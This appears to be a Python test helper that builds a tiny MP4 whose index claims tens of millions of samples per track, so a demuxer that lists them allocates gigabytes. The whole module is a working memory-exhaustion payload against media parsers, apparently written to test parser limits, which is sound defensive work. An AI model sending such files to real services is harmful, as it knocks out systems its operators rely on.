"""Small files that make their readers allocate gigabytes."""

from __future__ import annotations

import struct


def mp4_bomb(*, tracks: int = 3, samples: int = 85_000_000) -> bytes:
    """Return an mp4 file of a few kilobytes whose index lists millions of samples of the same size in each track.

    A demuxer that lists them all needs about 32 bytes for each (ISO/IEC 14496-12, 8.7).
    """
    body = b"".join(_track(number, samples) for number in range(1, tracks + 1))
    header = struct.pack(">IIIII", 0, 0, 0, 1000, 1000) + struct.pack(">IH10x", 0x10000, 0x100) + _MATRIX + bytes(24)
    movie = _box("moov", _box("mvhd", header + struct.pack(">I", tracks + 1)), body)
    return _box("ftyp", b"isom", bytes(4), b"isommp41") + movie + _box("mdat", bytes(5000))


_MATRIX = struct.pack(">9I", 0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)


def _box(kind: str, *parts: bytes) -> bytes:
    content = b"".join(parts)
    return struct.pack(">I4s", 8 + len(content), kind.encode()) + content


def _track(number: int, samples: int) -> bytes:
    entry = _box("avc1", bytes(6), struct.pack(">H16xHHIIIH32xHh", 1, 320, 240, 0x480000, 0x480000, 0, 1, 24, -1))
    table = _box(
        "stbl",
        _box("stsd", struct.pack(">II", 0, 1), entry),
        _box("stts", struct.pack(">IIII", 0, 1, samples, 1)),
        _box("stsc", struct.pack(">IIIII", 0, 1, 1, samples, 1)),
        _box("stsz", struct.pack(">III", 0, 1, samples)),
        _box("stco", struct.pack(">III", 0, 1, 1000)),
    )
    location = _box("dinf", _box("dref", struct.pack(">II", 0, 1), _box("url ", struct.pack(">I", 1))))
    media = _box(
        "mdia",
        _box("mdhd", struct.pack(">IIIIIHH", 0, 0, 0, 1000, 1000, 0x55C4, 0)),
        _box("hdlr", struct.pack(">II4s12x", 0, 0, b"vide"), b"\0"),
        _box("minf", _box("vmhd", struct.pack(">I8x", 1)), location, table),
    )
    header = struct.pack(">IIIIII16x", 7, 0, 0, number, 0, 1000) + _MATRIX
    return _box("trak", _box("tkhd", header, struct.pack(">HxxHxx", 320, 240)), media)
